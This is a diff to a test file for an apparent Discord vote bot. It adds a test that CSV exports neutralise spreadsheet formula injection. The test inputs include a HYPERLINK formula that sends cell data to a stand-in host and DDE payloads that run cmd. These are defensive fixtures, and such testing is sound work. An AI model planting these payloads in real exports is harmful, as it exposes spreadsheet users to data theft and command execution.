@@ -9,6 +9,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { commands } from '../commands/index.js';
 import { chartFileName } from '../commands/stats.js';
 import { chartSize } from '../src/charts/vote-trends-chart.js';
+import { runCli } from '../src/cli.js';
 import { createDb } from '../src/db/client.js';
 import { exportVotesCsv } from '../src/db/vote-export.js';
 import { getVoteTrends } from '../src/db/vote-trends.js';
@@ -104,8 +105,12 @@ beforeAll(async () => {
   await plannedVotes(otherGuildId, [{ userId: a, at: '2026-11-20T03:00:00.000Z' }]);
 });
 
-/** Votes through the webhook, once the reward job has planned them (stats count planned votes). */
+/**
+ * Votes through the webhook for a guild the bot is in (the reward job sets
+ * others aside), once the reward job has planned them (stats count planned votes).
+ */
 async function plannedVotes(guild: string, votes: Array<{ userId: string; at: string }>): Promise<void> {
+  bot.fake.addGuild({ id: guild });
   for (const v of votes) {
     const res = await bot.post(
       '/webhook/votes',
@@ -319,6 +324,63 @@ describe('/setup export', () => {
       await rm(dir, { recursive: true, force: true });
     }
   }, 120_000); // three CLI processes, each compiling TypeScript at start
+});
+
+describe('exports and spreadsheets', () => {
+  it('neutralises formulas in /setup export and the CLI export alike: a leading apostrophe', async () => {
+    const formulaGuild = snowflake();
+    const formulaChannel = snowflake();
+    bot.fake.addGuild({ id: formulaGuild, members: [adminId], channels: [formulaChannel] });
+    await eventually(() => bot.discord?.client.guilds.cache.has(formulaGuild));
+    const reasons = [
+      '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+      '+1+cmd|" /C calc"!A0',
+      '-2+3',
+      '@SUM(1+1)*cmd|" /C calc"!A0',
+      '\t=1+1',
+      '\r=1+1',
+      'Already voted recently',
+      'a = b - c',
+    ];
+    for (const [i, reason] of reasons.entries()) {
+      const response = await bot.post(
+        '/webhook/votes',
+        votePayload({
+          userId: snowflake(),
+          serverId: formulaGuild,
+          timestamp: new Date(Date.parse('2026-11-20T00:00:00.000Z') + i * 60_000).toISOString(),
+          creditsAwarded: false,
+          creditDenialReason: reason,
+        }),
+      );
+      expect(response.status).toBe(200);
+    }
+    const expected = reasons.map((r) => (/^[=+\-@\t\r]/.test(r) ? `'${r}` : r));
+    const { request } = await sendSlashCommand(bot.fake, {
+      name: 'setup',
+      options: subcommand('export'),
+      guildId: formulaGuild,
+      channelId: formulaChannel,
+      userId: adminId,
+    });
+    const attached = request.uploads?.[0]?.data.toString() ?? '';
+    const rows = parse(attached, { columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => r.denial_reason)).toEqual(expected);
+    // No cell of the file begins with a formula character.
+    const cells = (parse(attached) as string[][]).flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+
+    let cliOut = '';
+    const code = await runCli(['export', 'votes', '--guild', formulaGuild], {
+      env: { DATABASE_URL: bot.databaseUrl },
+      out: (t) => {
+        cliOut += t;
+      },
+      err: () => {},
+    });
+    expect(code).toBe(0);
+    expect(cliOut).toBe(attached);
+  });
 });
 
 describe('command definitions', () => {
